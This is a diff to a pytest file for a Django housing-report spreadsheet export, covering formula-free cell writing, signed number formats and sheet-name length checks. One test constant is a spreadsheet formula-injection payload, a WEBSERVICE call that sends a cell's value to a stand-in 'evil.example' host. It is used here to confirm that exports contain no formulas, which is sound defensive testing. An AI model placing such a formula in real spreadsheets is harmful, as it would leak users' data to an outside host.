@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 from reporting.returns_template import return_template
 from reporting.services import indicator_value_save
 from units.models import Unit
-from yuecheng_housing.lib.xlsx import sheet_response
+from yuecheng_housing.lib.xlsx import Signed, sheet_response, sheet_title
 
 pytestmark = pytest.mark.django_db
 HOSTILE = '=WEBSERVICE("http://evil.example/?"&D3)'
@@ -52,9 +52,34 @@ def test_briefing_sheets_write_signs_as_they_are():
     response = sheet_response(
         filename="通报.xlsx",
         title="通报",
+        sheet_name="通报",
         sections=[("", ["指标", "变化"], [[HOSTILE, "+2.9"], ["-", "@x"]])],
     )
     assert _formulas(response.content) == []
     sheet = load_workbook(io.BytesIO(response.content)).active
     assert [c.value for c in sheet[4]] == [HOSTILE, "+2.9"]  # no apostrophe
     assert [c.value for c in sheet[5]] == ["-", "@x"]
+
+
+def test_a_signed_change_is_a_number_shown_with_its_sign():
+    """'+2.9 as text shows an apostrophe in Excel and LibreOffice: a number
+    formatted with its sign shows +2.9 and sums."""
+    response = sheet_response(
+        filename="通报.xlsx",
+        title="通报",
+        sheet_name="通报",
+        sections=[("", ["指标", "还需每月"], [["甲", Signed(Decimal("2.9"))],
+                                         ["乙", Signed(Decimal("-3"))]])],
+    )  # fmt: skip
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rise, fall = sheet["B4"], sheet["B5"]
+    assert (rise.value, rise.data_type, rise.number_format) == (2.9, "n", "+0.0;-0.0;0")
+    assert (fall.value, fall.data_type, fall.number_format) == (-3, "n", "+0;-0;0")
+
+
+def test_a_sheet_name_is_given_whole_or_refused():
+    assert sheet_title("晾晒排名（2026年）") == "晾晒排名（2026年）"
+    with pytest.raises(ValueError, match="31个字符"):
+        sheet_title("越城区“住有宜居”责任单位晾晒排名（2026年，截至2026年12月7日）")
+    with pytest.raises(ValueError):
+        sheet_title("排名/2026")
